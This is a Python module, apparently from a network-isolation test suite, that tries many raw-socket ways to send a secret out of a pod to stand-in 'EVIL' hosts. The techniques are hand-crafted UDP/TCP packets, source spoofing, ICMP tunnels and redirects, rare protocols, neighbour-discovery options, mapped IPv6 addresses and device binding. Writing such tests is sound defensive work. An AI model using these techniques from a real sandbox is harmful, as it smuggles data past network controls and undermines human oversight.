"""Raw sockets: whole packets of the attacker's own making, through the IP layer."""

import socket
import struct
import time

from attack import *

RAW = ["net_raw"]


@way(caps=RAW)
def udp_packet():
    """A UDP packet made by hand."""
    attempt(lambda: send_raw(ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))),
            lambda: send_raw(ip6(POD6, EVIL6, 17, udp_segment(POD6, EVIL6, 5000, 123, SECRET))))


@way(caps=RAW)
def tcp_packets():
    """TCP segments without a connection: data, SYN, SYN-ACK, RST, FIN."""
    for flags in (0x18, 0x02, 0x12, 0x14, 0x11, 0x00):
        attempt(lambda: send_raw(ip4(POD4, EVIL4, 6, tcp_segment(POD4, EVIL4, 5000, 80, flags, SECRET))),
                lambda: send_raw(ip6(POD6, EVIL6, 6, tcp_segment(POD6, EVIL6, 5000, 80, flags, SECRET))))


@way(caps=RAW)
def segment_of_a_listener():
    """A segment without SYN from the port of a listener, as if it were of an accepted connection."""
    listener = socket.create_server(("::", 7777), family=socket.AF_INET6, dualstack_ipv6=True)
    for family, address in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
        segment = tcp_segment(POD4 if family == socket.AF_INET else POD6, address, 7777, 80, 0x18, SECRET)
        attempt(lambda: raw.sendto(segment, (address, 0)))
    listener.close()


@way(caps=RAW)
def spoofed_source():
    """Packets to where it may, in somebody else's name."""
    attempt(lambda: send_raw(ip4(FOREIGN4, ALLOWED4, 17, udp_segment(FOREIGN4, ALLOWED4, 5000, 123, SECRET))),
            lambda: send_raw(ip6(FOREIGN6, ALLOWED6, 17, udp_segment(FOREIGN6, ALLOWED6, 5000, 123, SECRET))))


@way(caps=RAW)
def another_next_hop():
    """A packet whose next hop is an allowed destination, and whose destination is not (sendto decides the route)."""
    packet = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
    attempt(lambda: send_raw(packet, ALLOWED4), lambda: send_raw(packet, GATEWAY4),
            lambda: send_raw(packet, "127.0.0.1"), lambda: send_raw(packet, POD4))


@way(caps=RAW)
def next_hop_by_loopback_v6():
    """The same over IPv6, where the packet's own destination does not count."""
    packet = ip6(POD6, EVIL6, 17, udp_segment(POD6, EVIL6, 5000, 123, SECRET))
    attempt(lambda: send_raw(packet, ALLOWED6), lambda: send_raw(packet, GATEWAY6),
            lambda: send_raw(packet, "::1"), lambda: send_raw(packet, POD6))


@way(caps=RAW)
def echo_requests():
    """A tunnel in echo requests and in other ICMP messages, redirects among them."""
    for kind in (8, 0, 13, 5, 3):
        attempt(lambda: send_raw(ip4(POD4, EVIL4, 1, echo_request(POD4, EVIL4, SECRET, kind))))
    attempt(lambda: send_raw(ip6(POD6, EVIL6, 58, echo_request(POD6, EVIL6, SECRET))))


@way(caps=RAW)
def redirect():
    """An ICMP redirect to the gateway that tells it of a better way, with the secret behind it."""
    quoted = ip4(EVIL4, ALLOWED4, 17, udp_segment(EVIL4, ALLOWED4, 1, 2, SECRET))
    message = struct.pack("!BBH4s", 5, 1, 0, packed(POD4)) + quoted
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    send_raw(ip4(POD4, GATEWAY4, 1, message))


@way(caps=RAW)
def other_protocols():
    """Protocols without ports: IGMP, IP in IP, GRE, ESP, OSPF, VRRP, SCTP, DCCP, UDP-Lite, and one that is none."""
    for protocol in (2, 4, 41, 47, 50, 89, 112, 132, 33, 136, 253, 255):
        attempt(lambda: send_raw(ip4(POD4, EVIL4, protocol, SECRET)),
                lambda: send_raw(ip6(POD6, EVIL6, protocol, SECRET)))


@way(caps=RAW)
def igmp_to_the_link():
    """IGMP and multicast on the link, with the secret."""
    attempt(lambda: send_raw(ip4(POD4, "224.0.0.22", 2, SECRET, b"\x94\x04\0\0", ttl=1)),
            lambda: send_raw(ip4(POD4, "224.0.0.1", 2, SECRET, ttl=1)))


@way(caps=RAW)
def neighbour_discovery():
    """Neighbour solicitations with the secret as their option, to an address beyond the link and to the link."""
    for destination in (EVIL6, "ff02::1", GATEWAY6):
        option = b"\1" + bytes([4]) + (SECRET + b"\0" * 30)[:30]
        body = struct.pack("!BBHI", 135, 0, 0, 0) + packed(GATEWAY6) + option
        body = with_checksum(58, POD6, destination, body, 2)
        attempt(lambda: send_raw(ip6(POD6, destination, 58, body, hops=255), destination, "eth0"))


@way(caps=RAW)
def transparent():
    """An ordinary socket that was bound to somebody else's address (IP_TRANSPARENT)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_IP, 19, 1)
    s.bind((FOREIGN4, 5000))
    s.sendto(SECRET, (ALLOWED4, 123))


@way(caps=["net_raw"])
def mapped_on_the_wire():
    """An IPv6 packet to ::ffff:a.b.c.d, which would be judged as IPv4."""
    destination = "::ffff:" + EVIL4
    packet = ip6(POD6, destination, 17, udp_segment(POD6, EVIL6, 5000, 123, SECRET))
    attempt(lambda: send_raw(packet, GATEWAY6), lambda: send_raw(packet, ALLOWED6))


@way(caps=["net_raw"])
def mapped_of_an_allowed_address():
    """An IPv6 packet to the mapped form of an allowed IPv4 address: no pod means that."""
    destination = "::ffff:" + ALLOWED4
    packet = ip6("::ffff:" + EVIL4, destination, 17, udp_segment(POD6, EVIL6, 5000, 123, SECRET))
    attempt(lambda: send_raw(packet, GATEWAY6), lambda: send_raw(packet, ALLOWED6))


@way(caps=RAW)
def bound_to_the_device():
    """Ordinary and raw sockets that are bound to the interface (SO_BINDTODEVICE, IP_UNICAST_IF)."""
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        s = socket.socket(socket.AF_INET, kind, 0 if kind == socket.SOCK_DGRAM else 253)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        attempt(lambda: s.setsockopt(socket.SOL_IP, 50, struct.pack("!I", socket.if_nametoindex("eth0"))))
        attempt(lambda: s.sendto(SECRET, (EVIL4, 123)))
